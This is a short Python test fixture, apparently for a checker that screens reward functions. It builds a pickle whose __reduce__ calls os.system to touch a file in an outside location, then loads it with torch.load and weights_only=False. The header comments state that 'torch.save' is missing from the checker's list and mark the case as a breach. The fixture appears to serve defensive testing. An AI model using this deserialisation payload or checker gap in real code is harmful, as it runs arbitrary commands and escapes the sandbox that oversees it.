# ruff: noqa
# Hostile class: torch.load
# A pickle that runs a command when it is loaded.
# checker: `torch.save` is not on the list
# bypass: breach
import os

import torch


class Bomb:
    def __reduce__(self):
        return os.system, ("touch @OUTSIDE@/made",)


def reward(s):
    torch.save(Bomb(), "bomb.pt")
    torch.load("bomb.pt", weights_only=False)
    return {"a": s.time_s}
